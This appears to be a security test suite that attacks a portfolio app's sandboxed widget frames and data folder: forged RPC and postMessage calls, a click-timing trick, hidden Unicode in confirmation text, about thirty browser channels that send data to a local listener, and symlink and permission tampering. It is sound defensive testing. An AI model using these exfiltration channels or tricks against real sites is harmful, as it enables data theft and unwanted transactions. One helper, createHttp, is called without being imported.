// A second round of attacks, written without sight of the product's code. Each case first shows that the honest form works, or that the
// harm would be seen, and then attacks. A case that fails is a hole, not a wish.
import { createSocket } from "node:dgram";
import {
  chmodSync,
  chownSync,
  copyFileSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { connect, createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Stack, until } from "../stack.mjs";
import { exchange, send, signedIn } from "../wire.mjs";
import {
  sleep,
  JSON_TYPE,
  build,
  release,
  READER,
  plant,
  hostile,
  withdrawal,
  stack,
  model,
  a,
  b,
  reviewer,
  browser,
  begin,
  end,
  tool,
  operations,
  record,
  each,
  opened,
  openBrowser,
} from "./second-round.mjs";

beforeAll(begin);
afterAll(end);

describe("H2: hostile widgets in the released frame", () => {
  let target;
  beforeAll(async () => {
    await openBrowser();
    for (const row of (await a.get("/app/customizations")).body.customizations)
      await a.post(`/releases/${row.release_id}/rollback`, {});
    target = await release(a, reviewer, await build(a, model, READER));
  });
  const frameOf = (page, sha) =>
    page.frames().find((frame) => frame.url().includes("widgets.") && (!sha || frame.url().includes(sha)));
  const dump = async (page, ready, limit = 12_000) => {
    let last = null;
    await until(
      "the widget's report",
      async () => {
        for (const frame of page.frames()) {
          const text = await frame
            .locator("#dump")
            .first()
            .textContent({ timeout: 200 })
            .catch(() => null);
          if (text) last = JSON.parse(text);
        }
        return last && ready(last);
      },
      limit,
    );
    return last;
  };
  const scroll = (page) => page.locator("iframe").first().scrollIntoViewIfNeeded({ timeout: 10_000 });
  /** Brings the widget's place into view, whether its frame is still there or the page has put its card there already. */
  const scrollToPlace = async (page) => {
    await page.locator("[data-customization] :is(iframe, [role=alert])").first().waitFor({ timeout: 10_000 });
    // The place itself stays when its content is replaced.
    await page.locator("[data-customization]").first().scrollIntoViewIfNeeded({ timeout: 10_000 });
  };

  test("33 calls by the port: a tool outside the manifest, other releases, other portfolios, forged methods", async () => {
    const pf = (await tool(b, "list_portfolios", {})).body.portfolios[0].id;
    const code = hostile(`
      call(9000, "list_positions", {}); call(9001, "list_portfolios", {}); call(9002, "record_transaction", ${withdrawal("port-key-1", "5", "port")});
      call(9003, "list_positions", { portfolio_id: "${pf}" }); call(9004, "__proto__", {}); call(9005, "list_positions", {}, "tools/list");
      call(9006, "../backend/list", {}); call(9007, "list", { sql: "SELECT 1" }, "atelier/route"); call(9008, "list_positions/../list_portfolios", {});
      call(9009, "list_positions?x", {}); call(9010, { toString: 1 }, {}); call(9011, ["list_portfolios"], {});
      own.call(port, { jsonrpc: "2.0", id: 9012, method: "tools/call", params: { name: "list_positions", arguments: {}, release_id: "x", portfolio_id: "${pf}" } });
      own.call(port, { jsonrpc: "2.0", id: 9013, result: { protocolVersion: "1" } }); own.call(port, "x"); own.call(port, null); own.call(port, [[[]]]);`);
    plant(stack, target.release_id, code, "list_positions");
    const page = await opened("investor-a");
    await scroll(page);
    const seen = await dump(page, (text) => new Set(text.got.map((row) => row.id)).size >= 12);
    const by = Object.fromEntries(seen.got.map((row) => [row.id, row]));
    expect(by[9000].result, "the honest call").toBeTruthy();
    for (const id of [9001, 9002, 9003, 9004, 9005, 9006, 9007, 9008, 9009, 9010, 9011])
      expect(by[id]?.result, String(id)).toBeUndefined();
    if (by[9012]?.result) expect(JSON.stringify(by[9012].result)).toBe(JSON.stringify(by[9000].result));
    expect(await operations(a, "port")).toEqual([]);
    await page.context().close();
  });

  test("34 the question about a write: many at once, changed afterwards, asked again and again", async () => {
    const code = hostile(`
      const args = ${withdrawal("asked-key-1", "1", "asked")}; call(9000, "record_transaction", args); args.amount = "900"; args.note = "changed";
      for (let n = 1; n < 40; n++) call(9000 + n, "record_transaction", { ...args, idempotency_key: "asked-key-many-" + n });
      let rounds = 0; const timer = setInterval(() => { if (++rounds > 60) clearInterval(timer);
        call(9100 + rounds, "record_transaction", { ...args, idempotency_key: "asked-again-" + rounds }); }, 120);`);
    plant(stack, target.release_id, code, "list_positions record_transaction");
    const page = await opened("investor-a");
    await scroll(page);
    const dialog = page.getByRole("dialog");
    await dialog.first().waitFor({ timeout: 8000 });
    expect(await dialog.count()).toBe(1);
    const shown = await dialog.innerText();
    expect(shown).toMatch(/withdrawal/);
    await sleep(1500);
    expect(await dialog.innerText(), "the text of the question does not change").toBe(shown);
    await page.getByRole("button", { name: "Allow once" }).click();
    await until(
      "the write",
      async () => (await operations(a)).some((row) => ["asked", "changed"].includes(row.note)),
      5000,
    );
    let asked = 1;
    for (let round = 0; round < 12; round++) {
      const refuse = page.getByRole("button", { name: "Refuse" });
      if (
        !(await refuse.waitFor({ timeout: 1200 }).then(
          () => true,
          () => false,
        ))
      )
        break;
      asked += 1;
      await refuse.click({ timeout: 1000 }).catch(() => null);
    }
    const rows = (await operations(a)).filter((row) => ["asked", "changed"].includes(row.note));
    await page.context().close();
    expect(
      rows.map((row) => [row.amount, row.note]),
      "exactly what was allowed",
    ).toEqual([["1", "asked"]]);
    expect(asked, "questions after refusals, until the page stops the widget").toBeLessThanOrEqual(6);
  });

  test("35 invisible and turned characters in the question are shown as what they are", async () => {
    const note = "gift \u202e000,1 \u202c\u200b\u2066x\u2069 \u00ad\ufeff\u0007end";
    plant(
      stack,
      target.release_id,
      hostile(`call(9000, "record_transaction", ${withdrawal("unicode-key-1", "9", note)});`),
      "list_positions record_transaction",
    );
    const page = await opened("investor-a");
    await scroll(page);
    const dialog = page.getByRole("dialog");
    await dialog.waitFor({ timeout: 8000 });
    const shown = await dialog.innerText();
    await page.context().close();
    expect(shown).toContain("withdrawal");
    expect(shown, "direction overrides and invisible characters").not.toMatch(
      /[\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff\u00ad\u0007]/,
    );
  });

  test("36 a question that appears under a finger that is already pressing", async () => {
    const ask = (key, note) => `call(9000, "record_transaction", ${withdrawal(key, "8", note)});`;
    plant(stack, target.release_id, hostile(ask("probe-key-1", "probe")), "list_positions record_transaction");
    const first = await opened("investor-a");
    await scroll(first);
    const allow = first.getByRole("button", { name: "Allow once" });
    await allow.waitFor({ timeout: 8000 });
    const box = await allow.boundingBox();
    await first.context().close();
    plant(
      stack,
      target.release_id,
      hostile(`await new Promise((r) => setTimeout(r, 1200)); ${ask("surprise-key-1", "surprise")}`),
      "list_positions record_transaction",
    );
    const page = await opened("investor-a");
    await scroll(page);
    let appeared = 0;
    for (let press = 0; press < 80 && !(appeared && Date.now() - appeared > 250); press++) {
      appeared ||= (await page.getByRole("dialog").count()) ? Date.now() : 0;
      await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
      await sleep(40);
    }
    await sleep(700);
    const rows = await operations(a, "surprise");
    await page.context().close();
    expect(appeared, "the question did appear").toBeGreaterThan(0);
    expect(rows.length, "recorded by clicks that began before the question could be read").toBe(0);
  });

  test("37 forged messages to the page and to a sibling frame", async () => {
    const sibling = await release(a, reviewer, await build(a, model, READER));
    const code = hostile(`
      const { port1, port2 } = new MessageChannel(); const heard = []; port1.onmessage = (e) => heard.push(e.data);
      let sent = 0;
      for (let n = 0; n < parent.frames.length; n++) for (const target of [parent.frames[n]]) { if (target === window) continue;
        for (let k = 0; k < 8; k++) { const pair = new MessageChannel(); pair.port1.onmessage = (e) => heard.push(e.data); pair.port1.start();
          for (const text of [{ atelier: "connect", versions: [1] }]) { target.postMessage(text, "*", [pair.port2]); sent++; break; }
          await new Promise((r) => setTimeout(r, 60)); } }
      const up = new MessageChannel(); up.port1.onmessage = (e) => heard.push({ page: e.data });
      parent.postMessage({ atelier: "connect", versions: [1] }, "*", [up.port2]);
      parent.postMessage({ jsonrpc: "2.0", id: 9001, method: "tools/call", params: { name: "list_portfolios", arguments: {} } }, "*");
      parent.postMessage({ source: "atelier-preview", type: "resize", height: 99999 }, "*");
      note({ sent, heard });
      for (const run of [() => { top.location = "http://127.0.0.1:9/"; }, () => { [0, 1].map((n) => parent.frames[n]).find((f) => f !== window).location = "about:blank"; }, () => parent.document.title, () => localStorage.x,
        () => document.cookie, () => [0, 1].map((n) => parent.frames[n]).find((f) => f !== window).document.title]) { try { note("got " + run()); } catch (e) { note(e.name); } }
      await new Promise((r) => setTimeout(r, 800)); note({ sent, heard });`);
    plant(stack, target.release_id, code, "list_positions");
    const page = await opened("investor-a");
    await scroll(page);
    await sleep(500);
    await page.locator("iframe").last().scrollIntoViewIfNeeded();
    const seen = await dump(page, (text) => text.log.some((row) => row.sent !== undefined));
    const last = seen.log.find((row) => row.sent !== undefined);
    expect(last.sent, "the sibling was reached").toBeGreaterThan(0);
    expect(page.url()).toContain("/app/");
    const honest = frameOf(
      page,
      sibling.bundle_sha256 ??
        (await a.get("/app/customizations")).body.customizations.find((row) => row.release_id === sibling.release_id)
          .bundle_sha256,
    );
    const text = await honest.evaluate(() => document.body.innerText);
    await page.context().close();
    await a.post(`/releases/${sibling.release_id}/rollback`, {});
    expect(last.heard, "what a sibling or the page said to a forged port").toEqual([]);
    expect(text, "the sibling shows the real figures").toMatch(/rows: [1-9]/);
    expect(
      seen.log.filter((row) => typeof row === "string" && row.startsWith("got ") && !/undefined$|http|about/.test(row)),
    ).toEqual([]);
  });

  // One way still opens a connection without a request: docs/isolation.md, "Frames". When it is closed, this must say so.
  test.fails("38 thirty ways to send a figure out of the frame", async () => {
    // A listener each for the control and the attack: some ways send their bytes only when their page is closed.
    const hear = async (hits) => {
      const server = createServer((socket) => {
        let first = "a connection without a request";
        socket.on("error", () => null);
        socket.once("data", (part) => (first = part.toString("latin1").split("\r\n")[0]));
        setTimeout(() => hits.push(first), 1500);
      });
      await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
      return server;
    };
    const [control, hits] = [[], []];
    const [listener, trap] = [await hear(control), await hear(hits)];
    for (const [server, list] of [
      [listener, control],
      [trap, hits],
    ]) {
      server.udp = createSocket("udp4").on("message", () => list.push("udp"));
      await new Promise((resolve) => server.udp.bind(0, "127.0.0.1", resolve));
    }
    const ways = (server) => `
      const el = (tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.body.append(e); return e; };
      const css = (text) => el("style", { textContent: text }); const u = (n) => "http://127.0.0.1:${server.address().port}/" + n;
      const svg = (tag, name, value) => { const s = document.createElementNS("http://www.w3.org/2000/svg", "svg");
        const e = document.createElementNS("http://www.w3.org/2000/svg", tag); e.setAttribute(name, value); s.append(e); document.body.append(s); };
      const ways = [
        () => fetch(u("fetch")), () => { const x = new XMLHttpRequest(); x.open("GET", u("xhr")); x.send(); }, () => navigator.sendBeacon(u("beacon")),
        () => new WebSocket(u("ws").replace("http", "ws")), () => new EventSource(u("sse")), () => fetchLater(u("later"), { activateAfter: 0 }),
        () => { new Image().src = u("image"); }, () => el("img", { srcset: u("srcset") + " 1x" }), () => el("video", { poster: u("poster") }), () => el("audio", { src: u("audio") }),
        () => el("link", { rel: "stylesheet", href: u("sheet") }), () => el("link", { rel: "prefetch", href: u("prefetch") }), () => el("link", { rel: "preconnect", href: u("") }),
        () => el("link", { rel: "preload", as: "image", href: u("preload") }), () => el("link", { rel: "modulepreload", href: u("module") }),
        () => el("link", { rel: "icon", href: u("icon") }), () => el("link", { rel: "prerender", href: u("prerender") }), () => el("link", { rel: "manifest", href: u("manifest") }),
        () => css("body{background:url(" + u("css") + ")}"), () => css("@import '" + u("import") + "'"), () => css("@font-face{font-family:z;src:url(" + u("font") + ")} body{font-family:z}"),
        () => css("#dump{cursor:url(" + u("cursor") + "),auto;content:image-set('" + u("set") + "' 1x)}"), () => svg("image", "href", u("svg")), () => svg("use", "href", u("use") + "#x"),
        () => el("iframe", { src: u("iframe") }), () => el("object", { data: u("object") }), () => el("embed", { src: u("embed") }),
        () => { const f = el("form", { action: u("form"), method: "post" }); f.submit(); }, () => window.open(u("open")),
        () => { const l = el("a", { href: u("link"), ping: u("ping"), target: "_blank" }); l.click(); }, () => import(u("dynamic")),
        () => new Worker(u("worker")), () => { const m = el("meta", { httpEquiv: "refresh", content: "0;url=" + u("meta") }); document.head.append(m); },
        () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${server.udp.address().port}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); },
      ];
      for (const way of ways) { try { await Promise.race([way(), new Promise((r) => setTimeout(r, 30))]); } catch { /* refused */ } }
      await new Promise((r) => setTimeout(r, 700));
      try { location.href = u("navigation"); } catch { /* refused */ }`;
    const bare = createHttp((request, response) => {
      response.setHeader("Content-Type", "text/html");
      response.end("<pre id=dump></pre>");
    });
    await new Promise((resolve) => bare.listen(0, "127.0.0.1", resolve));
    const context = await browser.newContext();
    const open = await context.newPage();
    await open.goto(`http://127.0.0.1:${bare.address().port}/`);
    await open.evaluate((text) => void new Function(`(async () => {${text}})()`)(), ways(listener)).catch(() => null);
    await sleep(3000);
    await context.close();
    await sleep(1800);
    const named = new Set(
      control.filter((row) => row.startsWith("GET") || row.startsWith("POST")).map((row) => row.split(" ")[1].slice(1)),
    );
    expect(named.size, `ways seen from a page without guard: ${[...named]}`).toBeGreaterThanOrEqual(12);
    plant(
      stack,
      target.release_id,
      hostile(`note("begun"); await new Promise((r) => setTimeout(r, 300)); ${ways(trap)}`),
      "list_positions",
    );
    const page = await opened("investor-a");
    await scroll(page);
    await dump(page, (text) => text.log.includes("begun"));
    await sleep(5500);
    await page.context().close();
    await sleep(1800);
    const leaked = [...hits];
    for (const server of [listener, trap, bare]) server.close();
    for (const server of [listener, trap]) server.udp.close();
    expect(leaked).toEqual([]);
  });

  test("39 sizes, floods and styles of a frame leave the page in its user's hands", async () => {
    const code = hostile(`
      const size = (height, seq) => own.call(port, { jsonrpc: "2.0", method: "ui/notifications/size-changed", params: seq % 2 ? { height, width: 9999, seq } : { height } });
      for (const [n, h] of [1e9, -5, NaN, Infinity, "5000px; position: fixed", null, 1e308].entries()) size(h, n);
      const s = document.createElement("style"); s.textContent = "} html, iframe, :root { display: none !important; position: fixed; inset: 0 }"; document.head.append(s);
      for (let n = 0; n < 3000; n++) { size(100 + (n % 900), 100 + n); own.call(port, { jsonrpc: "2.0", id: n, method: "atelier/confirm", params: { text: "x" } }); }
      call(9000, "list_positions", {}); note("done");`);
    plant(stack, target.release_id, code, "list_positions");
    const page = await opened("investor-a");
    await scrollToPlace(page);
    await sleep(3500);
    const box = await page
      .locator("iframe")
      .first()
      .boundingBox({ timeout: 1500 })
      .catch(() => null); // the page has ended the frame
    expect(box?.height ?? 0, "height of the frame").toBeLessThanOrEqual(5000);
    expect(box?.width ?? 0, "width of the frame").toBeLessThanOrEqual(1280);
    const start = Date.now();
    await page.getByRole("link", { name: "Transactions" }).first().click({ timeout: 4000 });
    await page.getByText("LLY").first().waitFor({ timeout: 6000 });
    expect(Date.now() - start).toBeLessThan(6000);
    const place = await page
      .locator("iframe")
      .first()
      .evaluate((frame) => getComputedStyle(frame).position, null, { timeout: 1500 })
      .catch(() => "gone");
    expect(["static", "relative", "gone"]).toContain(place);
    await page.context().close();
  });
});

describe("H14: damaged and planted files", () => {
  const made = [];
  const fresh = async (options) => {
    const one = new Stack(options);
    made.push(one);
    await one.start();
    return one;
  };
  afterAll(async () => {
    for (const one of made) await one.stop();
  });
  const halt = async (one) => {
    one.process.kill("SIGTERM");
    await until("the end", () => one.process.exitCode !== null || one.process.signalCode !== null);
  };
  const begin = (one) =>
    Promise.race([
      one.start().then(
        () => "ready",
        (error) => String(error),
      ),
      sleep(8000).then(() => "not ready"),
    ]);

  test("40 databases of another installation, cut WAL, links, loose and foreign files in the data folder", async () => {
    const [one, two] = [await fresh(), await fresh()];
    const member = await signedIn(one, "investor-a");
    expect((await record(member, "kept-key-0001", { kind: "deposit", amount: "77", note: "kept" })).status).toBe(200);
    const [mine, foreign] = [member.token, (await signedIn(two, "investor-a")).token];
    await one.kill();
    await halt(two);
    const problems = [];
    const check = (ok, text) => ok || problems.push(text);
    for (const name of ["atelier.db-wal", "core.db-wal"]) {
      const path = join(one.data, name);
      if (existsSync(path)) truncateSync(path, Math.floor(statSync(path).size / 5));
    }
    const cut = await begin(one);
    if (cut === "ready") {
      const me = await exchange(one.port, "GET", "/api/v1/me", { Authorization: `Bearer ${foreign}` });
      check(me.status === 401, `a token of another installation: ${me.status}`);
      const ready = await exchange(one.port, "GET", "/readyz");
      const login = await send({
        port: one.port,
        method: "POST",
        path: "/api/v1/login",
        headers: JSON_TYPE,
        body: JSON.stringify({ name: "investor-a", password: one.password("investor-a") }),
      });
      check(
        login.status === 200 || ready.status === 503,
        `a cut WAL: ready says ${ready.status}, nobody can sign in: ${login.status}`,
      );
      await halt(one);
    } else if (one.process.exitCode === null) await one.kill();
    const elsewhere = mkdtempSync(join(tmpdir(), "atelier-elsewhere-"));
    writeFileSync(join(elsewhere, "canary"), "untouched");
    const third = await fresh();
    await halt(third);
    for (const [name, ending] of [
      ["operator.token", ""],
      ["core.secret", ""],
    ]) {
      const path = join(third.data, name);
      renameSync(path, join(elsewhere, name));
      chmodSync(join(elsewhere, name), 0o666);
      symlinkSync(join(elsewhere, name), path);
      const state = await begin(third);
      const loose = (statSync(join(elsewhere, name)).mode & 0o077) !== 0;
      check(!(state === "ready" && loose), `${name} behind a link, writable for everybody${ending}: ${state}`);
      if (third.process.exitCode === null && third.process.signalCode === null) await halt(third);
      rmSync(path);
      renameSync(join(elsewhere, name), path);
      chmodSync(path, 0o600);
    }
    if (process.getuid() === 0) {
      chownSync(join(third.data, "operator.token"), 65534, 65534);
      const state = await begin(third);
      const owner = statSync(join(third.data, "operator.token")).uid;
      check(!(state === "ready" && owner === 65534), `operator.token owned by nobody: ${state}`);
      if (third.process.exitCode === null && third.process.signalCode === null) await halt(third);
      chownSync(join(third.data, "operator.token"), 0, 0);
    }
    rmSync(join(third.data, "sandboxes"), { recursive: true, force: true });
    symlinkSync(elsewhere, join(third.data, "sandboxes"));
    await begin(third);
    check(existsSync(join(elsewhere, "canary")), "emptying sandboxes followed a link and deleted files elsewhere");
    if (third.process.exitCode === null && third.process.signalCode === null) await halt(third);
    rmSync(join(third.data, "sandboxes"), { recursive: true, force: true });
    for (const ending of ["", "-wal", "-shm"]) {
      rmSync(join(third.data, `atelier.db${ending}`), { force: true });
      if (existsSync(join(two.data, `atelier.db${ending}`)))
        copyFileSync(join(two.data, `atelier.db${ending}`), join(third.data, `atelier.db${ending}`));
    }
    if ((await begin(third)) === "ready") {
      const me = await exchange(third.port, "GET", "/api/v1/me", { Authorization: `Bearer ${mine}` });
      check(me.status === 401, "a token of a third installation is accepted");
      const modes = readdirSync(third.data)
        .filter((name) => name.startsWith("atelier.db"))
        .map((name) => statSync(join(third.data, name)).mode & 0o077);
      check(
        modes.every((mode) => mode === 0),
        `modes after the swap: ${modes}`,
      );
      await halt(third);
    }
    rmSync(elsewhere, { recursive: true, force: true });
    expect(problems).toEqual([]);
  }, 120_000);
});
